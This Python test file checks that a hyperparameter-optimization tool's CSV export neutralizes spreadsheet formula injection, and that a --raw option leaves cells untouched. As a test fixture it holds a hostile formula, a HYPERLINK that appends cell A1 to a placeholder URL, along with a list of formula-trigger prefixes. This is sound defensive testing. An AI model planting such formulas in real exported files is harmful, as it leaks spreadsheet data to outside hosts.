"""In CSV files that hpo writes, no text of the data is a formula for a spreadsheet; numbers stay as they are."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import optuna
import pandas
import pytest

from hpo.data.csv_writer import neutralize_cell, write_csv
from hpo.store.storage import storage_url
from hpo.study.spec import load_study
from tests.support.canary_study import study_file
from tests.support.command_line import Ended, run_hpo

__all__ = ["run_hpo", "study_file"]
FORMULA = '=HYPERLINK("http://example.org?"&A1)'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1 555 0100", "-the tent", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "\uff1d1"]
)
def test_texts_that_look_like_formulas_get_an_apostrophe(text: str) -> None:
    assert neutralize_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["a=b", "", " ", "'=1", "-1", "+2.5", "-1e-5", "-inf", -1, -0.5, None, True])
def test_other_cells_stay(value: object) -> None:
    assert neutralize_cell(value) is value


def test_only_texts_of_a_table_change(tmp_path: Path) -> None:
    table = pandas.DataFrame(
        {"number": [-1, 2], "share": [-0.5, None], "mixed": [-3, "=1"], "text": ["-a", None], "@": 0}
    )
    typed = table.astype({"text": "string", "number": "Int64"})
    for frame in (table, typed, table.astype({"text": "category"})):
        write_csv(frame, tmp_path / "table.csv")
        assert (tmp_path / "table.csv").read_text() == "number,share,mixed,text,'@\n-1,-0.5,-3,'-a,0\n2,,'=1,,0\n"
        write_csv(frame, tmp_path / "table.csv", raw=True)
        assert (tmp_path / "table.csv").read_text() == "number,share,mixed,text,@\n-1,-0.5,-3,-a,0\n2,,=1,,0\n"


def test_texts_of_the_shared_examples_are_harmless(shared: Path, tmp_path: Path) -> None:
    table = pandas.read_csv(shared / "odd" / "formulas.csv")
    write_csv(table, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file)]
    assert texts == [f"'{text}" for text in table["text"]] and len(texts) == 40


def test_exported_trials_are_harmless_unless_they_are_raw(
    study_file: Path, run_hpo: Callable[..., Ended], tmp_path: Path
) -> None:
    spec = load_study(study_file)
    study = optuna.load_study(study_name=spec.name, storage=storage_url(spec))
    study.add_trial(optuna.trial.create_trial(state=optuna.trial.TrialState.FAIL, user_attrs={"reason": FORMULA}))
    export = ("export", study_file, "--format", "trials-csv", "--output")
    assert run_hpo(*export, tmp_path / "safe.csv").code == run_hpo(*export, tmp_path / "raw.csv", "--raw").code == 0
    safe, raw = pandas.read_csv(tmp_path / "safe.csv"), pandas.read_csv(tmp_path / "raw.csv")
    assert list(safe["reason"])[-1] == f"'{FORMULA}" and list(raw["reason"])[-1] == FORMULA
    texts = ["reason", "outcome"]  # the outcome is the beginning of the reason
    assert safe.drop(columns=texts).equals(raw.drop(columns=texts))
    ended = run_hpo("export", study_file, "--format", "trials-parquet", "--raw")
    assert ended.code == 2 and "--raw takes --format trials-csv, not trials-parquet" in ended.errors
